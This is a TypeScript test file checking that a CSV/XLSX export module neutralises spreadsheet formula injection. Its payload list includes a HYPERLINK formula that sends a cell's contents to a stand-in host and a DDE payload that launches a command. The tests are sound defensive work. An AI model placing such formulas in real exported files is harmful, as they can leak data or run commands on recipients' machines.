import { buffer, text } from 'node:stream/consumers'
import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { inflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import { type Cell, neutral, sheetFormats, writeSheet } from '#platform/sheet'

const payloads = [
  '=1+1', '=HYPERLINK("http://exemple.example?"&A1;"clic")', '+212612345678', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1+1', '\u00a0=1', '\u200b=1', '\ufeff=1', '＝1+1', '＋1', '－1', '＠A', '|cmd', '%0A',
  "=cmd|' /C calc'!A0",
]
const plain = ['Aminata', 'Ndèye-Awa', 'فاطمة الزهراء', 'محمد = أحمد', 'a=b', "l'eau", '"guillemets"', 'deux\nlignes', 'a;b,c', '12', '٢٠٢٦', '', '😀', "'déjà"]

const columns = ['Nom', 'Nombre', '=Colonne']
const rowsOf = (texts: string[]): Cell[][] => texts.map((each, index) => [each, index, null])
const sheetOf = (texts: string[]) => ({ title: 'Personnes', columns, rows: rowsOf(texts) })
const csvOf = async (texts: string[]) => text(writeSheet(sheetOf(texts), 'csv'))
const xlsxOf = async (texts: string[]) => buffer(writeSheet(sheetOf(texts), 'xlsx'))

describe('a text in CSV', () => {
  test('that a spreadsheet could take for a formula has an apostrophe in front, and every other is as it was', async () => {
    const rows = parse(await csvOf([...payloads, ...plain]), { bom: true }) as string[][]
    expect(rows[0]).toEqual(['Nom', 'Nombre', "'=Colonne"])
    expect(rows.slice(1, payloads.length + 1).map(([first]) => first)).toEqual(payloads.map((each) => `'${each}`))
    expect(rows.slice(payloads.length + 1).map(([first]) => first)).toEqual(plain)
    expect(rows[1]?.slice(1)).toEqual(['0', ''])
  })

  test('begins by saying that it is UTF-8, and quotes every value', async () => {
    const written = Buffer.from(await buffer(writeSheet(sheetOf(['فاطمة']), 'csv')))
    expect([...written.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(written.subarray(3).toString()).toContain('"فاطمة"')
  })

  test('cannot break out of its place by quotes, dividers and line ends', async () => {
    for (const each of ['a","=1+1', 'a";=1+1', 'a\r\n=1+1', '"', '""=1', "a\n+1"]) {
      const [, row] = parse(await csvOf([each]), { bom: true }) as string[][]
      expect(row).toEqual([neutral(each), '0', ''])
    }
  })
})

/** The parts of an archive that are read as text, found by their local headers. */
const partsOf = (archive: Buffer): string => {
  let all = ''
  for (let at = archive.indexOf('PK\u0003\u0004'); at !== -1; at = archive.indexOf('PK\u0003\u0004', at + 4)) {
    const start = at + 30 + archive.readUInt16LE(at + 26) + archive.readUInt16LE(at + 28)
    try {
      all += archive.readUInt16LE(at + 8) === 8 ? inflateRawSync(archive.subarray(start)).toString() : archive.subarray(start, start + 65_536).toString()
    } catch {
      continue
    }
  }
  return all
}

describe('a text in XLSX', () => {
  test('is a text: whoever opens it reads the text itself, and there is no formula in the file', async () => {
    const archive = await xlsxOf([...payloads, ...plain])
    const { sheets } = await readXlsx(archive)
    const read = sheets[0]!.rows.slice(1).map(([first]) => String(first ?? '').replaceAll('\r', '\n'))
    expect(read).toEqual([...payloads, ...plain].map((each) => each.replaceAll('\r', '\n')))
    const parts = partsOf(archive)
    expect(parts).toContain('inlineStr')
    expect(parts).not.toMatch(/<f[ >]/)
  })

  test('loses what no sheet can hold, and nothing else', async () => {
    const { sheets } = await readXlsx(await xlsxOf(['a\u0000b\u0008c', 'moitié \ud800 seule']))
    expect(sheets[0]!.rows.slice(1).map(([first]) => first)).toEqual(['abc', 'moitié \ufffd seule'])
  })
})

test('a long table is written as it is read, some rows ahead', async () => {
  for (const format of sheetFormats) {
    let read = 0
    const rows = function* () {
      for (; read < 50_000; read++) yield ['Aminata Diallo '.repeat(5) + read, read, null]
    }
    for await (const part of writeSheet({ title: 'Personnes', columns, rows: rows() }, format)) {
      if (part.length > 0 && read > 10) break
    }
    expect(read, format).toBeLessThan(50_000)
  }
})

test('tables leave the house from one place, or, to be brought in again, through the same function', () => {
  const home = join(import.meta.dirname, '..', '..')
  const files = globSync('{src,web,bench}/**/*.{ts,tsx}', { cwd: home }).filter((file) => !/\.test\.tsx?$/.test(file))
  const writing = /writeXlsx|writeCsv|(Xlsx|Csv)StreamWriter|csv-stringify|unparse\(/
  // A page names these types where it asks for a file; only what answers may not.
  const answering = /text\/csv|spreadsheetml/
  const isWriter = (file: string, text: string) => writing.test(text) || (!file.startsWith('web') && answering.test(text))
  const writers = files.filter((file) => isWriter(file, readFileSync(join(home, file), 'utf8')))
  expect(writers.toSorted()).toEqual(['src/intake/returned.ts', 'src/platform/sheet.ts'])
  expect(readFileSync(join(home, 'src/intake/returned.ts'), 'utf8')).toMatch(/: neutral\(value\)/)
})
